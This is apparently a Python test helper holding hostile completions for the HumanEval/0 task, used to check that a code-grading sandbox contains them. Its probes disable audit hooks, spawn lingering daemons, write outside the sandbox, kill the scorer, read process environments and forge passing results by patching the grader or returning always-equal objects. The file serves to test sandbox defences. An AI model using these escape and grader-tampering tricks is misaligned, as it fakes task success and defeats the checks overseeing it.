"""Hostile HumanEval/0 completions (issue 34's probes) and the host-side checks, shared by the tests.

    from hostile import probes, grade_all, traces
    grade_all(problem, victims, here)   # {name: (passed, output)}, graded by shapedce.tasks.sandbox.grade

Importable by a plain `python -I` run as an unprivileged user (tests/test_sandbox_hostile.py runs it
so): it needs only the standard library and shapedce.tasks.sandbox. Every probe carries TOKEN in the
paths it writes and the commands it starts, so the test can look for its traces on the host. None
of them solves the problem: each attacks, then answers wrongly or fakes, and must score 0.
"""

from __future__ import annotations

import json
import os
import sys
import textwrap
import types

TOKEN = "shapedce-hostile-7f3a"
WRITES = ["/tmp", "/var/tmp", "/dev/shm", "/run/lock"]
"""World-writable host places the probes try to write TOKEN files into."""

_BODY = {
    # the old sandbox's audit hook, switched off three ways, then os.system
    "gc_hook_then_system": """
        import gc, os
        for h in gc.get_objects():
            if type(h).__name__ == "function" and h.__name__ == "hook":
                h.__code__ = (lambda *a: None).__code__
        os.system("touch /tmp/{token}-sys; touch /run/lock/{token}-sys")
        return True""",
    "realpath_then_system": """
        import os, os.path
        os.path.realpath = lambda p: "/box/" + p
        os.system("touch /tmp/{token}-rp /var/tmp/{token}-rp")
        return True""",
    "frames_then_system": """
        import sys, os
        f = sys._getframe()
        while f.f_back:
            f = f.f_back
        f.f_globals.pop("hook", None)
        os.system("touch /dev/shm/{token}-fr")
        return True""",
    "write_outside": """
        for d in {dirs}:
            try:
                open(d + "/{token}-w", "w").write("x")
            except OSError:
                pass
        open("../{token}-up", "w").write("x")
        return True""",
    "posixsubprocess": """
        import _posixsubprocess as p, os
        r, w = os.pipe()
        a = [[b"/bin/sh", b"-c", b"sleep 30; touch /tmp/{token}-ps"], [b"/bin/sh"], True, (), None, None]
        a += [-1, -1, -1, -1, -1, -1, r, w, True, True, -1, None, None, None, -1, None]
        try:
            p.fork_exec(*a, False)
        except TypeError:
            p.fork_exec(*a)
        return True""",
    "leftover_daemon": """
        import os
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.execv("/bin/sh", ["sh", "-c", "sleep 3; touch /tmp/{token}-late; sleep 60 # {token}"])
            os._exit(0)
        return True""",
    "always_equal": """
        class Yes:
            __eq__ = lambda s, o: True
            __ne__ = lambda s, o: False
            __bool__ = lambda s: True
        return Yes()""",
    "always_equal_int": """
        class Yes(int):
            __eq__ = lambda s, o: True
        return Yes(1)""",
    "frames_to_grader": """
        import sys
        f = sys._getframe()
        while f:
            for k, v in list(f.f_locals.items()) + list(f.f_globals.items()):
                if k in ("check", "passed", "ok", "token"):
                    f.f_globals[k] = True
            f = f.f_back
        return 1""",
    "gc_to_grader": """
        import gc
        for o in gc.get_objects():
            if isinstance(o, dict) and "check" in o:
                o["check"] = lambda c: None
            if type(o).__name__ == "function" and o.__name__ == "check":
                o.__code__ = (lambda c: None).__code__
        return 1""",
    "forge_replies": """
        import os
        for fd in range(3, 64):
            try:
                os.write(fd, b'["ok", true]\\n["done"]\\n' * 50)
            except OSError:
                pass
        os._exit(0)""",
    "signal_scorer": """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        for pid in ({victims}):
            for call in (lambda: os.kill(pid, 9), lambda: os.killpg(pid, 9),
                         lambda: libc.syscall(424, libc.syscall(434, pid, 0), 9, None, 0)):
                try:
                    call()
                except OSError:
                    pass
        try:
            os.kill(-1, 9)
        except OSError:
            pass
        return True""",
    "read_environ": """
        import os
        for pid in ({victims} os.getppid(), 1):
            try:
                print(open(f"/proc/{{pid}}/environ").read())
            except OSError as e:
                print("refused", e)
        print(dict(os.environ))
        return True""",
    "escape_view": """
        import os
        print(os.listdir("/"), os.path.exists("/etc/shadow"), os.path.exists("{here}"))
        os.makedirs("/run/lock/{token}-dir", exist_ok=True)
        return None""",
}


def probes(victims: list[int], here: str) -> dict[str, str]:
    """Each probe's completion (a body for HumanEval/0), TOKEN and the victims' pids filled in."""
    fill = {"token": TOKEN, "dirs": repr(WRITES), "victims": ", ".join(map(str, victims)) + ",", "here": here}
    return {
        name: textwrap.indent(textwrap.dedent(b).format(**fill).strip("\n"), "    ") + "\n"
        for name, b in _BODY.items()
    }


def traces(here: str) -> list[str]:
    """TOKEN files in the host's writable places and `here`, and processes whose command line holds TOKEN."""
    found = [os.path.join(d, n) for d in [*WRITES, here] for n in _ls(d) if TOKEN in n]
    for pid in filter(str.isdigit, _ls("/proc")):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                if TOKEN.encode() in f.read() and int(pid) != os.getpid():
                    found.append(f"process {pid}")
        except OSError:
            pass
    return found


def _ls(path: str) -> list[str]:
    try:
        return os.listdir(path)
    except OSError:
        return []


def grade_all(problem: dict, victims: list[int], here: str) -> dict[str, tuple[bool, str]]:
    """Every probe graded as HumanEval/0 is: the program in the sandbox, its trusted check outside."""
    from shapedce.tasks.sandbox import Limits, grade

    code = compile(f"{problem['prompt']}\n    pass\n\n{problem['test']}\n", "check", "exec")

    def check(candidate):
        scope: dict = {}
        exec(code, scope)
        scope["check"](candidate)

    limits = Limits(wall_s=5.0, cpu_s=5, memory_mb=512)
    out = {}
    for name, body in probes(victims, here).items():
        result = grade(problem["prompt"] + body, problem["entry_point"], check, limits)
        out[name] = (result.passed, result.output)
    return out


if __name__ == "__main__":  # python hostile.py SRC PROBLEM.json VICTIM_PID (as an unprivileged user)
    src, problem_file, victim = sys.argv[1], sys.argv[2], int(sys.argv[3])
    sys.path.insert(0, src)
    import shapedce  # noqa: F401 - a light package; shapedce.tasks is not run (it needs torch)

    tasks = types.ModuleType("shapedce.tasks")
    tasks.__path__ = [os.path.join(src, "shapedce", "tasks")]
    sys.modules["shapedce.tasks"] = tasks
    from shapedce.errors import UserError
    from shapedce.tasks.sandbox import allow_unisolated, isolation, run_python

    try:
        run_python("pass")
        refused = ""
    except UserError as err:  # without the flag: one line saying what is not isolated
        refused = str(err)
    if isolation().level == "none":  # nothing would contain the probes: never run them on the host
        print(json.dumps({"level": "none", "refused": refused, "graded": {}}))
        sys.exit(0)
    allow_unisolated()
    with open(problem_file) as f:
        problem = json.load(f)
    graded = grade_all(problem, [victim, os.getpid(), os.getppid()], os.getcwd())
    print(json.dumps({"level": isolation().level, "refused": refused, "graded": graded}))
